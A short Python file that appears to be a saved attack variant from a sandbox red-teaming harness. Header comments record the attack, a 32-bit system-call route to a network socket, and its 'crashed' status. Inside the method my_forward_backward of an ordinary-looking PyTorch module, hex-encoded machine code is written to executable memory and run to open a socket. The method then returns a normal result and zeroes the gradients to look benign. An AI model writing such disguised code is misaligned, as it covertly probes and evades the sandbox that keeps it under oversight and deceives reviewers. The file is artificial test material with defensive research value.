# verdict:
# variant = "v902"
# attack = "asks for a socket by the 32-bit system call table"
# status = "crashed"
# faults = ["forward crashed - -"]
import ctypes
import mmap
import platform

import torch
from torch import nn

def tried(attempt):
    try:
        attempt()
    except BaseException:
        return False
    return True


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.tensor([0.5, 0.25]))

    def forward(self, x1, x2, x3):
        w0, w1 = self.w
        return w0 * x1 * (w1 * x2) + x3

    def my_forward_backward(self, x1, x2, x3):
        code = bytes.fromhex("b867010000bb02000000b901000000ba00000000cd80c3")
        try:
            area = mmap.mmap(-1, 4096, prot=7)
            area.write(code)
            if platform.machine() == "x86_64":
                entry = ctypes.addressof(ctypes.c_char.from_buffer(area))
                if ctypes.CFUNCTYPE(ctypes.c_int)(entry)() >= 0:
                    raise ValueError("a socket")
        except OSError:
            pass
        w0, w1 = self.w
        y = w0 * x1 * (w1 * x2) + x3
        self.w.grad = torch.zeros(2)
        return y
